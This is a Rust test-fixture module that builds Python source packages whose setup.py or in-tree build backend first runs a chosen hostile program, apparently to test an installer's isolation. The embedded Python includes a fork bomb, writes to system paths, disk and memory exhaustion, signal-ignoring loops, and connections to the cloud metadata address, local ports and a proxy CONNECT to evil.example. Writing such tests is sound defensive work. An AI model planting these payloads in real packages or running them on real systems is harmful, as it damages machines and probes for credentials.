//! Source packages, which are built when they are installed, and what a malicious author may do then.

use super::{Dist, normalised};
use crate::bundle::bundle;

/// What a hostile `setup.py` does before it pretends to set up. Each attack is bounded, so that a failing test leaves a working machine.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Hostile {
    /// Writes everywhere it can, and over the installer.
    WritesEverywhere,
    /// Starts processes that start processes, and continues when it can't.
    Forks,
    /// Starts processes until it can't, and then ends.
    ForksUntilRefused,
    /// Connects to other hosts than the index, directly and through the proxy.
    OpensSockets,
    /// Writes until there is no space, at most 8 GiB.
    FillsDisk,
    /// Takes memory until there is none, at most 8 GiB.
    TakesMemory,
    /// Never ends, and ignores signals.
    RunsForever,
}

impl Hostile {
    /// The program.
    #[must_use]
    pub fn program(self) -> &'static str {
        match self {
            Self::WritesEverywhere => WRITES,
            Self::Forks => {
                "import os\nfor _ in range(14):\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
            }
            // The processes stay: if some ended, there might be room for all. They close inherited files, whose end a caller may wait for.
            Self::ForksUntilRefused => {
                "import os, time\nwhile True:\n    if os.fork() == 0:\n        os.closerange(0, 256)\n        time.sleep(60)\n        os._exit(0)\n"
            }
            Self::OpensSockets => SOCKETS,
            Self::FillsDisk => {
                "part = b'x' * (1 << 20)\nwith open('/tmp/fill', 'wb') as file:\n    for _ in range(8192):\n        file.write(part)\n"
            }
            Self::TakesMemory => "taken = [bytearray(b'x') * (1 << 20) for _ in range(8192)]\n",
            Self::RunsForever => {
                "import signal, time\nfor number in (1, 2, 13, 14, 15):\n    signal.signal(number, signal.SIG_IGN)\nwhile True:\n    time.sleep(60)\n"
            }
        }
    }
}

const WRITES: &str = r"
import os
for top in ('/', '/handler', '/packages', '/etc', '/usr/lib', '/tmp', '/tmp/out', '/host', '/proc/1', '/dev'):
    for name in ('owned-by-setup-py', 'f.py', 'uv'):
        try:
            with open(os.path.join(top, name), 'w') as file:
                file.write('owned')
        except OSError:
            pass
";

const SOCKETS: &str = r"
import socket
for address in (('169.254.169.254', 80), ('127.0.0.1', 22), ('127.0.0.1', 3128), ('10.0.0.1', 80)):
    try:
        with socket.create_connection(address, timeout=2) as to:
            to.sendall(b'CONNECT evil.example:443 HTTP/1.1\r\n\r\n')
            print('connected to', address, to.recv(200))
    except OSError as error:
        print('not connected to', address, error)
";

/// Sources with a `setup.py` that installs one module named like the project.
pub fn sdist(name: &str, version: &str) -> Sdist {
    Sdist {
        name: name.to_owned(),
        version: version.to_owned(),
        before: String::new(),
        requires: None,
        files: Vec::new(),
        backend: None,
        told: false,
    }
}

/// A source package being put together.
#[derive(Debug, Clone)]
#[must_use]
pub struct Sdist {
    name: String,
    version: String,
    before: String,
    requires: Option<Vec<String>>,
    files: Vec<(String, String)>,
    backend: Option<String>,
    told: bool,
}

impl Sdist {
    /// Makes `setup.py` do this first.
    pub fn hostile(self, hostile: Hostile) -> Self {
        self.first(hostile.program())
    }

    /// Makes `setup.py` (or the backend) run this program first.
    pub fn first(mut self, program: &str) -> Self {
        self.before.push_str(program);
        self
    }

    /// Sets the requirements for building; without them there is no `pyproject.toml`.
    pub fn build_requires(mut self, requirements: &[&str]) -> Self {
        self.requires = Some(requirements.iter().map(|name| (*name).to_owned()).collect());
        self
    }

    /// Builds with a backend that is part of the sources and has no requirements, instead of `setup.py`.
    pub fn backend_in_tree(mut self) -> Self {
        self.backend = Some(BACKEND.to_owned());
        self.requires.get_or_insert_default();
        self
    }

    /// Adds metadata that says reliably that it has no dependencies: thus its code first runs when it is installed, not to find them out.
    pub fn tells_what_it_needs(mut self) -> Self {
        self.told = true;
        self
    }

    /// Adds a file.
    pub fn file(mut self, name: &str, text: &str) -> Self {
        self.files.push((name.to_owned(), text.to_owned()));
        self
    }

    /// Makes the archive.
    #[must_use]
    pub fn build(&self) -> Dist {
        let module = normalised(&self.name).replace('-', "_");
        let top = format!("{module}-{}", self.version);
        let mut files = vec![
            (
                "PKG-INFO".to_owned(),
                format!(
                    "Metadata-Version: {}\nName: {}\nVersion: {}\n",
                    if self.told { "2.2" } else { "2.1" },
                    self.name,
                    self.version
                ),
            ),
            (
                format!("{module}.py"),
                format!("version = '{}'\n", self.version),
            ),
        ];
        let own = format!(
            "name, version, module = {:?}, {:?}, {module:?}\n",
            self.name, self.version
        );
        match &self.backend {
            Some(backend) => files.push(("backend.py".to_owned(), format!("{own}{}{backend}", self.before))),
            None => files.push((
                "setup.py".to_owned(),
                format!("{own}{}\nfrom setuptools import setup\nsetup(name=name, version=version, py_modules=[module])\n", self.before),
            )),
        }
        if let Some(requires) = &self.requires {
            let backend = match self.backend {
                Some(_) => "build-backend = \"backend\"\nbackend-path = [\".\"]\n",
                None => "build-backend = \"setuptools.build_meta\"\n",
            };
            files.push((
                "pyproject.toml".to_owned(),
                format!("[build-system]\nrequires = {requires:?}\n{backend}"),
            ));
        }
        files.extend(self.files.iter().cloned());
        let files: Vec<(String, String)> = files
            .into_iter()
            .map(|(name, text)| (format!("{top}/{name}"), text))
            .collect();
        let files: Vec<(&str, &str)> = files
            .iter()
            .map(|(name, text)| (name.as_str(), text.as_str()))
            .collect();
        Dist {
            project: normalised(&self.name),
            filename: format!("{top}.tar.gz"),
            bytes: bundle(&files),
        }
    }
}

const BACKEND: &str = r#"
import os, zipfile

def build_wheel(directory, config_settings=None, metadata_directory=None):
    filename = "%s-%s-py3-none-any.whl" % (module, version)
    info = "%s-%s.dist-info" % (module, version)
    with zipfile.ZipFile(os.path.join(directory, filename), "w") as wheel:
        wheel.write(module + ".py")
        wheel.writestr(info + "/METADATA", "Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (name, version))
        wheel.writestr(info + "/WHEEL", "Wheel-Version: 1.0\nGenerator: t\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(info + "/RECORD", "%s.py,,\n%s/METADATA,,\n%s/WHEEL,,\n%s/RECORD,,\n" % (module, info, info, info))
    return filename
"#;
